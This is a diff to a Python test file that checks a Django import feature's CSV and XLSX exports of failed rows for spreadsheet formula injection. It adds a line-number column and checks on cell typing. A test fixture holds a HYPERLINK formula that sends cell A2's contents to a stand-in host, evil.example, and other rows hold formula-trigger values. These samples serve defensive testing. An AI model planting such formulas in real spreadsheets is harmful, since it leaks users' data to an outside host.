@@ -25,7 +25,7 @@ pytestmark = [pytest.mark.usefixtures("import_env"), pytest.mark.django_db]
 EVIL = '=HYPERLINK("http://evil.example/?"&A2,"click")'
 HEADER = (*VARIANT_HEADER, EVIL)
 ROWS = [("Shirt", "Soft", "Red", "M", "S-1", "-1", "1", "@SUM(1)"), ("+Shirt", "=2+2", "Red", "L", "S-2", "x", "1", "")]
-GUARDED_HEADER = [*VARIANT_HEADER, "'" + EVIL, "row_number", "error"]
+GUARDED_HEADER = [*VARIANT_HEADER, "'" + EVIL, "row_number", "line_number", "error"]
 
 
 @pytest.fixture
@@ -53,7 +53,7 @@ def test_the_failed_rows_csv_guards_the_header_row_too(api, failed_job):
     rows = list(csv.reader(io.StringIO(_export(api, failed_job, "csv").decode())))
 
     assert rows[0] == GUARDED_HEADER
-    assert rows[1][-3:-1] == ["'@SUM(1)", "1"]
+    assert rows[1][-4:-1] == ["'@SUM(1)", "1", "2"]
     assert rows[2][:2] == ["'+Shirt", "'=2+2"]
 
 
@@ -63,9 +63,11 @@ def test_the_failed_rows_xlsx_has_no_formula_cell_and_a_numeric_row_number(api, 
 
     assert _formula_cells(workbook) == []
     assert [cell.value for cell in sheet[1]] == GUARDED_HEADER
-    texts = [cell for row in sheet.iter_rows(max_col=len(HEADER)) for cell in row if cell.value is not None]
+    texts = [cell for row in sheet.iter_rows(max_col=len(HEADER)) for cell in row if isinstance(cell.value, str)]
     assert {cell.data_type for cell in texts} == {"s"}
+    assert [(cell.value, cell.data_type) for cell in sheet[2][5:7]] == [(-1, "n"), (1, "n")]  # price, stock: typed
     assert [(cell.value, cell.data_type) for cell in sheet["I"][1:]] == [(1, "n"), (2, "n")]
+    assert [(cell.value, cell.data_type) for cell in sheet["J"][1:]] == [(2, "n"), (3, "n")]  # line_number
     assert sheet["B3"].value == "'=2+2"
 
 
@@ -90,6 +92,7 @@ def test_templates_hold_no_formula_cell(kind):
 
 @pytest.mark.parametrize("write_only", [True, False])
 def test_xlsx_cells_writes_text_as_strings_and_numbers_as_numbers(write_only, tmp_path):
+    """Every text a string cell; the "'" only on text that would be a formula (issue 15)."""
     workbook = openpyxl.Workbook(write_only=write_only)
     sheet = workbook.create_sheet("S") if write_only else workbook.active
     sheet.append(xlsx_cells(sheet, ["=1+1", "-3", 7, 2.5, None, "plain"]))
@@ -98,7 +101,7 @@ def test_xlsx_cells_writes_text_as_strings_and_numbers_as_numbers(write_only, tm
     cells = next(openpyxl.load_workbook(tmp_path / "cells.xlsx").worksheets[0].iter_rows())
     assert [(cell.value, cell.data_type) for cell in cells] == [
         ("'=1+1", "s"),
-        ("'-3", "s"),
+        ("-3", "s"),  # a plain number written as text: never a formula, no visible "'"
         (7, "n"),
         (2.5, "n"),
         (None, "n"),
